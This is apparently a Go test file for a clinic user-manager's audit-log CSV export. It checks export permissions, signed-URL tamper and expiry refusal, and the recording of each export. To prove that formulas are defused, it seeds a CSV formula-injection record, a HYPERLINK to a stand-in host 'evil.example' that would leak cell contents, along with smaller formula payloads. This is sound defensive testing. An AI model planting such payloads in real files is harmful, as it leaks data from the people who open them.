package apitest_test

// API tests of the audit trail's CSV export (SPEC R31, issue #11 item 5):
// who may export what, the signed URL that cannot be altered or outlive its
// time, the CSV itself (the records auditEvents shows, formulas defused),
// and that exporting is itself recorded.

import (
	"context"
	"encoding/base64"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/clinicemr/usermanager/ent/auditevent"
	"github.com/clinicemr/usermanager/ent/privacy"
	"github.com/clinicemr/usermanager/internal/apitest"
	"github.com/clinicemr/usermanager/internal/audit"
	"github.com/clinicemr/usermanager/internal/demo"
	"github.com/clinicemr/usermanager/internal/gid"
)

// expExport runs exportAuditEvents and returns the URL, or "" and the
// response on GraphQL errors.
func expExport(t *testing.T, c *apitest.Client, in map[string]any) (string, *apitest.Response) {
	t.Helper()
	return c.ExportLink(t, "exportAuditEvents", "ExportAuditEventsInput", in)
}

// expGet downloads an export URL: the status, and the CSV's rows when 200.
func expGet(t *testing.T, env *apitest.Env, link string) (int, [][]string) {
	t.Helper()
	return env.DownloadCSV(t, link, audit.ExportPrefix, audit.ExportColumns)
}

// expOrganization is the opaque ID of the viewer's organization.
func expOrganization(t *testing.T, c *apitest.Client) string {
	t.Helper()
	var out struct {
		Viewer struct {
			HomeClinic struct{ Organization struct{ ID string } }
		}
	}
	c.MustDo(`{ viewer { homeClinic { organization { id } } } }`, nil, &out)
	return out.Viewer.HomeClinic.Organization.ID
}

// expAllEvents pages through auditEvents with filter.
func expAllEvents(t *testing.T, c *apitest.Client, filter map[string]any) map[string]audEvent {
	t.Helper()
	out := map[string]audEvent{}
	vars := map[string]any{"first": 100, "filter": filter}
	for {
		conn, _ := audMustEvents(t, c, vars)
		for _, e := range conn.Edges {
			out[e.Node.ID] = e.Node
		}
		if !conn.PageInfo.HasNextPage {
			return out
		}
		vars["after"] = *conn.PageInfo.EndCursor
	}
}

// Column positions in the CSV.
const (
	expID = iota
	expTime
	expAction
	expActorUsername
	expActorID
	expTargetType
	expTargetID
	expTargetUserID
	expOrganizationID
	expOutcome
	expReason
	expClientIP
	expRequestID
	expBefore
	expAfter
)

func TestAuditExport(t *testing.T) {
	t.Parallel()
	apitest.ForEachDatabase(t, func(t *testing.T, env *apitest.Env) {
		admin := env.LoginDemo(demo.AdminUsername)
		harbor := env.LoginDemo("harbor.admin")
		support := env.LoginDemo(demo.SupportUsername)
		frontDesk := env.LoginDemo("front.desk")
		sunrise, harborOrg := expOrganization(t, admin), expOrganization(t, harbor)
		sunriseID, err := gid.Decode(sunrise)
		if err != nil {
			t.Fatal(err)
		}

		// A record written to be hostile when opened in a spreadsheet.
		hostile := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
		ctx := privacy.DecisionContext(context.Background(), privacy.Allow)
		err = env.DB.Client.AuditEvent.Create().SetAction(auditevent.ActionUSER_UPDATED).
			SetOrganizationID(sunriseID).SetCreatedAt(time.Now()).
			SetActorUsername("@SUM(1+1)").SetTargetType("-2+3").
			SetReason(hostile).SetBefore(map[string]any{"lastName": hostile}).
			SetClientIP("+1").SetRequestID("\tTAB").Exec(ctx)
		if err != nil {
			t.Fatal(err)
		}

		// A period that holds every record so far.
		filter := map[string]any{"from": time.Now().Add(-24 * time.Hour).Format(time.RFC3339), "to": time.Now().Add(time.Hour).Format(time.RFC3339)}
		want := expAllEvents(t, admin, filter)
		link, _ := expExport(t, admin, map[string]any{"filter": filter})
		status, rows := expGet(t, env, link)
		if status != http.StatusOK {
			t.Fatalf("GET %s: %d", link, status)
		}

		t.Run("a manager gets their organization's records, as auditEvents shows them", func(t *testing.T) {
			got := map[string][]string{}
			for _, row := range rows {
				if row[expOrganizationID] != sunrise {
					t.Errorf("a record of another organization: %v", row)
				}
				got[row[expID]] = row
			}
			// The export's own record is written before the download.
			exported := 0
			for id, row := range got {
				if _, ok := want[id]; !ok {
					if row[expAction] != "AUDIT_EXPORTED" {
						t.Errorf("exported but not in auditEvents: %v", row)
					}
					exported++
				}
			}
			if exported != 1 || len(got) != len(want)+1 || len(rows) != len(got) {
				t.Errorf("%d rows (%d distinct), auditEvents has %d, %d export records", len(rows), len(got), len(want), exported)
			}
			for id, ev := range want {
				row, ok := got[id]
				if !ok {
					t.Errorf("missing from the export: %+v", ev)
					continue
				}
				at, err := time.Parse(time.RFC3339Nano, row[expTime])
				wantAt, _ := time.Parse(time.RFC3339Nano, ev.CreatedAt)
				if err != nil || !at.Equal(wantAt) || !strings.HasSuffix(row[expTime], "Z") {
					t.Errorf("%s: time %q, auditEvents says %q", id, row[expTime], ev.CreatedAt)
				}
				if row[expAction] != ev.Action || strings.TrimPrefix(row[expActorUsername], "'") != ev.ActorUsername ||
					row[expOutcome] != ev.Outcome || row[expClientIP] != ev.ClientIP && row[expClientIP] != "'"+ev.ClientIP {
					t.Errorf("%s: row %v, auditEvents %+v", id, row, ev)
				}
			}
			// Oldest first. Compared as times: RFC 3339 drops trailing
			// zeros of the fraction, so ".47Z" sorts after ".4701Z" as text.
			at := func(row []string) time.Time {
				ts, err := time.Parse(time.RFC3339Nano, row[expTime])
				if err != nil {
					t.Fatalf("time %q: %v", row[expTime], err)
				}
				return ts
			}
			if !slices.IsSortedFunc(rows, func(a, b []string) int { return at(a).Compare(at(b)) }) {
				t.Errorf("rows are not in time order")
			}
		})

		t.Run("formulas are defused", func(t *testing.T) {
			var row []string
			for _, r := range rows {
				if strings.Contains(r[expReason], "HYPERLINK") {
					row = r
				}
			}
			if row == nil {
				t.Fatal("the hostile record is missing")
			}
			for col, want := range map[int]string{
				expReason: "'" + hostile, expActorUsername: "'@SUM(1+1)", expTargetType: "'-2+3",
				expClientIP: "'+1", expRequestID: "'\tTAB",
			} {
				if row[col] != want {
					t.Errorf("column %s = %q, want %q", audit.ExportColumns[col], row[col], want)
				}
			}
			if !strings.HasPrefix(row[expBefore], `{"lastName":"=HYPERLINK(`) {
				t.Errorf("before = %q", row[expBefore])
			}
		})

		t.Run("the export is recorded", func(t *testing.T) {
			conn, _ := audMustEvents(t, admin, map[string]any{"filter": map[string]any{"actions": []string{"AUDIT_EXPORTED"}}})
			if len(conn.Edges) != 1 {
				t.Fatalf("AUDIT_EXPORTED records: %v", conn.actions())
			}
			ev := conn.Edges[0].Node
			f, _ := ev.After["filter"].(map[string]any)
			if ev.ActorUsername != demo.AdminUsername || ev.TargetType != "Organization" || f["from"] == nil || f["to"] == nil {
				t.Errorf("the export's record: %+v", ev)
			}
		})

		t.Run("another organization's manager", func(t *testing.T) {
			if _, r := expExport(t, harbor, map[string]any{"organizationId": sunrise}); r.Code() != "NOT_FOUND" {
				t.Errorf("harbor.admin exporting Sunrise: %s", r.Body)
			}
			own, _ := expExport(t, harbor, map[string]any{})
			status, rows := expGet(t, env, own)
			if status != http.StatusOK || len(rows) == 0 {
				t.Fatalf("harbor.admin's own export: %d, %d rows", status, len(rows))
			}
			for _, row := range rows {
				if row[expOrganizationID] != harborOrg {
					t.Errorf("harbor.admin's export holds %v", row)
				}
			}
			// Their URL, rewritten to name Sunrise: the signature no longer holds.
			u, err := url.Parse(own)
			if err != nil {
				t.Fatal(err)
			}
			scope := string(expUnB64(t, strings.TrimPrefix(u.Path, audit.ExportPrefix+"/")))
			forged := strings.Replace(scope, `"org":`+expRawID(t, harborOrg)+",", `"org":`+expRawID(t, sunrise)+",", 1)
			if forged == scope {
				t.Fatalf("no organization in %s", scope)
			}
			u.Path = audit.ExportPrefix + "/" + expB64(forged)
			if status, _ := expGet(t, env, u.String()); status != http.StatusForbidden {
				t.Errorf("forged organization: %d, want 403", status)
			}
		})

		t.Run("an altered URL is refused", func(t *testing.T) {
			u, err := url.Parse(link)
			if err != nil {
				t.Fatal(err)
			}
			q := u.Query()
			exp := q.Get("exp")
			for name, change := range map[string]func(url.Values){
				"later expiry":  func(q url.Values) { q.Set("exp", exp+"0") },
				"no signature":  func(q url.Values) { q.Del("sig") },
				"bad signature": func(q url.Values) { q.Set("sig", strings.Repeat("A", 43)) },
			} {
				altered := url.Values{}
				for k, v := range q {
					altered[k] = slices.Clone(v)
				}
				change(altered)
				if status, _ := expGet(t, env, u.Path+"?"+altered.Encode()); status != http.StatusForbidden {
					t.Errorf("%s: %d, want 403", name, status)
				}
			}
			// The filter is in the signed part too: widening the period fails.
			scope := string(expUnB64(t, strings.TrimPrefix(u.Path, audit.ExportPrefix+"/")))
			wider := strings.Replace(scope, `"from":"`, `"from":"1`, 1)
			if wider == scope {
				t.Fatalf("no period in %s", scope)
			}
			if status, _ := expGet(t, env, audit.ExportPrefix+"/"+expB64(wider)+"?"+u.RawQuery); status != http.StatusForbidden {
				t.Errorf("altered filter: %d, want 403", status)
			}
		})

		t.Run("Support names the organization", func(t *testing.T) {
			if _, r := expExport(t, support, map[string]any{}); r.Code() != "BAD_USER_INPUT" {
				t.Errorf("Support without organizationId: %s", r.Body)
			}
			link, _ := expExport(t, support, map[string]any{"organizationId": sunrise,
				"filter": map[string]any{"actions": []string{"USER_UPDATED"}}})
			status, rows := expGet(t, env, link)
			if status != http.StatusOK || len(rows) == 0 {
				t.Fatalf("Support's export: %d, %d rows", status, len(rows))
			}
			for _, row := range rows {
				if row[expOrganizationID] != sunrise || row[expAction] != "USER_UPDATED" {
					t.Errorf("Support's export of Sunrise's USER_UPDATED holds %v", row)
				}
			}
		})

		t.Run("staff without View Users", func(t *testing.T) {
			if _, r := expExport(t, frontDesk, map[string]any{}); r.Code() != "FORBIDDEN" {
				t.Errorf("front.desk: %s", r.Body)
			}
			if _, r := expExport(t, env.Anonymous(), map[string]any{}); r.Code() != "UNAUTHENTICATED" {
				t.Errorf("anonymous: %s", r.Body)
			}
		})

		// Last: it moves the server's clock past the URL's life.
		t.Run("an expired URL is refused", func(t *testing.T) {
			if status, _ := expGet(t, env, link); status != http.StatusOK {
				t.Fatalf("before expiry: %d", status)
			}
			env.Clock.Advance(audit.ExportTTL * 3 / 2)
			if status, _ := expGet(t, env, link); status != http.StatusForbidden {
				t.Errorf("after expiry: %d, want 403", status)
			}
		})
	})
}

func expUnB64(t *testing.T, s string) []byte {
	t.Helper()
	b, err := base64.RawURLEncoding.DecodeString(s)
	if err != nil {
		t.Fatalf("decoding %q: %v", s, err)
	}
	return b
}

func expB64(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func expRawID(t *testing.T, id string) string {
	t.Helper()
	n, err := gid.Decode(id)
	if err != nil {
		t.Fatal(err)
	}
	return strconv.Itoa(n)
}
